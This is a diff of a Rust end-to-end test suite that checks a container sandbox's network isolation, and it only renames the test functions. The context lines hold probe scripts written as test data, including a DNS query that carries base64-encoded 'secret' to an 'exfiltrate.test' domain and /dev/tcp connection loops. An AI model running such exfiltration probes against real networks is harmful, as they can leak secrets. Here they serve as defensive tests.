@@ -34,7 +34,7 @@ fn answered(outcome: &str) -> bool {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_hosts_services_are_unreachable_over_ipv4() {
+async fn host_services_are_unreachable_over_ipv4() {
     let fixture = Fixture::new().await;
     let service = HostService::start();
     for address in [HOST, "10.88.0.1", "169.254.1.2"] {
@@ -52,7 +52,7 @@ async fn the_hosts_services_are_unreachable_over_ipv4() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_control_an_unrestricted_task_reaches_the_hosts_services() {
+async fn control_unrestricted_task_reaches_host_services() {
     let fixture = Fixture::new().await;
     let service = HostService::start();
     let spec = fixture
@@ -64,7 +64,7 @@ async fn the_control_an_unrestricted_task_reaches_the_hosts_services() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn names_that_podman_gives_the_host_lead_nowhere() {
+async fn podman_names_of_the_host_are_unreachable() {
     let fixture = Fixture::new().await;
     let service = HostService::start();
     for name in ["host.containers.internal", "host.docker.internal"] {
@@ -130,7 +130,7 @@ async fn task_and_bridge(fixture: &Fixture) -> (String, String) {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_hosts_services_are_unreachable_over_ipv6_link_local() {
+async fn host_services_are_unreachable_over_ipv6_link_local() {
     let fixture = Fixture::new().await;
     let service = HostService::start();
     for outcome in with_link_local(&fixture, service.port()).await {
@@ -143,7 +143,7 @@ async fn the_hosts_services_are_unreachable_over_ipv6_link_local() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_control_with_ipv6_on_an_internal_network_reaches_the_host() {
+async fn control_ipv6_on_an_internal_network_reaches_the_host() {
     let service = HostService::start();
     let network = format!("e2e-control-{}", service.port());
     let body = json!({"name": network, "driver": "bridge", "internal": true, "dns_enabled": false,
@@ -187,7 +187,7 @@ async fn link_local_address_of(bridge: String) -> String {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn udp_and_icmp_to_the_outside_arrive_nowhere() {
+async fn udp_and_icmp_to_the_outside_are_dropped() {
     let fixture = Fixture::new().await;
     let sink = UdpSink::bind(SINK);
     let echoes = IcmpSink::bind(SINK);
@@ -237,7 +237,7 @@ for line in sys.stdin:
 /// Without its filter, a task on an engine that does not check the way back (`rp_filter`) sends
 /// datagrams to any address of the host.
 #[tokio::test(flavor = "multi_thread")]
-async fn datagrams_to_the_host_arrive_nowhere_whatever_the_socket() {
+async fn datagrams_to_the_host_are_dropped_for_every_socket() {
     let fixture = Fixture::new().await;
     let sink = || host::inside(|| UdpSink::bind(Ipv4Addr::UNSPECIFIED));
     let (sandboxed, unfiltered) = (sink(), sink());
@@ -297,7 +297,7 @@ EOF";
 
 /// microsandbox 0c13181a: the gateway answered echo requests past its policy.
 #[tokio::test(flavor = "multi_thread")]
-async fn the_proxy_cannot_be_pinged_nor_anything_behind_it() {
+async fn proxy_and_hosts_behind_it_cannot_be_pinged() {
     let fixture = Fixture::new().await;
     // Nothing else pings this address.
     let echoes = IcmpSink::bind(ORIGIN);
@@ -317,7 +317,7 @@ async fn the_proxy_cannot_be_pinged_nor_anything_behind_it() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn names_never_leave_and_only_the_proxy_answers() {
+async fn dns_queries_never_leave_and_only_the_proxy_answers() {
     let fixture = Fixture::new().await;
     let script = "server=$(awk '/nameserver/ {print $2}' /etc/resolv.conf)
 /probe dns $server:53 c2VjcmV0.exfiltrate.test 1
@@ -362,7 +362,7 @@ begin=$SECONDS; while (( SECONDS - begin < 4 )); do (exec 3<>/dev/tcp/$server/$(
 echo took $((SECONDS + 1))";
 
 #[tokio::test(flavor = "multi_thread")]
-async fn ports_that_nothing_serves_are_refused_at_once_and_on_record_once_a_second() {
+async fn closed_ports_refuse_at_once_and_are_logged_once_a_second() {
     let fixture = Fixture::new().await;
     let ran = fixture.run(POLICY, PORTS).await;
     assert_eq!(ran.stdout.matches("\"refused\"").count(), 3, "{}", ran.stdout);
@@ -378,7 +378,7 @@ async fn ports_that_nothing_serves_are_refused_at_once_and_on_record_once_a_seco
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn two_tasks_see_nothing_of_each_other() {
+async fn two_tasks_cannot_reach_each_other() {
     let first = Fixture::new().await;
     let second = Fixture::new().await;
     // Each task prints its proxy's address, then tries the other's, and then its own: that is the
@@ -423,7 +423,7 @@ async fn conversation(fixture: &Fixture, script: &str) -> String {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn neither_the_root_key_nor_the_tasks_key_is_in_reach() {
+async fn root_key_and_task_key_are_out_of_reach() {
     let fixture = Fixture::new().await;
     // What is mounted from the state folder is the container's own files, none of which is the
     // authority's.
@@ -441,7 +441,7 @@ async fn neither_the_root_key_nor_the_tasks_key_is_in_reach() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn when_the_proxy_is_killed_all_traffic_stops() {
+async fn killed_proxy_stops_all_traffic() {
     let fixture = Fixture::new().await;
     let script = "curl -sS --max-time 5 https://open.test/ && echo before; read go; \
          curl -sS --max-time 5 https://open.test/ && echo after; /probe tcp 203.0.113.10 443; echo end";
